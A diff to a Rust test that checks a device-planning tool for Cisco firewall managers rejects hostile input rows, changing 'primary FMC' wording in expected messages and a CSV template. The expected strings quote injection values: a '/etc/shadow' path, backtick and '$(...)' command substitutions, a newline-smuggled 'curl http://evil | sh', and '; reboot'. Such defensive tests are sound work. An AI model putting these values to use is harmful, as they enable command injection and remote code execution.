@@ -131,20 +131,20 @@ fn hostile_rows_never_reach_a_command() {
         "#   - ftd-b: line 1: destination \"/etc/shadow\" is not /var/sf/peers/<UUID>/ followed by cacert.pem, sftunnel-cert.pem, sftunnel-key.pem",
         "#   - ftd`id`: line 6: device name \"ftd`id`\" has characters a device name never has",
         "#   - ftd-z: line 10: destination \"/var/sf/peers/cdb123c8-4347-11ef-aca1-f3aa241412a1/$(touch${IFS}PWNED)\" is not",
-        "#   - primary FMC name \"fmc-1\\x0a    curl http://evil | sh\" has characters a device name never has (in ",
-        "#   - primary FMC address \"10.48.67.10; reboot\" is not an IPv4 or IPv6 address (in ",
+        "#   - FMC name \"fmc-1\\x0a    curl http://evil | sh\" has characters a device name never has (in ",
+        "#   - FMC address \"10.48.67.10; reboot\" is not an IPv4 or IPv6 address (in ",
     ] {
         let reason = reason.replace("line 1:", "line 4:");
         assert!(r.stdout.contains(&reason), "missing {reason:?} in\n{}", r.stdout);
     }
-    // devices.csv: the primary FMC unknown, then the one good device; no cell like a formula.
+    // devices.csv: the FMC unknown, then the one good device; no cell like a formula.
     let out = dir.path().join("out");
     let w = run(&["plan", "--now", "2026-11-23", dir.path().to_str().unwrap(), "-o", out.to_str().unwrap()]);
     assert_eq!(w.code, 0, "{}", w.stderr);
     assert_eq!(
         std::fs::read_to_string(out.join("devices.csv")).unwrap(),
         "#device_name,ipaddr,login,password\n\
-         #PRIMARY-FMC-NAME,PRIMARY-FMC-IP,admin,  (add the primary FMC as the first line)\n\
+         #FMC-NAME,FMC-IP,admin,  (add the FMC as the first line)\n\
          BSNS-1120-1,10.48.67.54,admin,\n"
     );
     let text = std::fs::read_to_string(out.join("plan.txt")).unwrap();
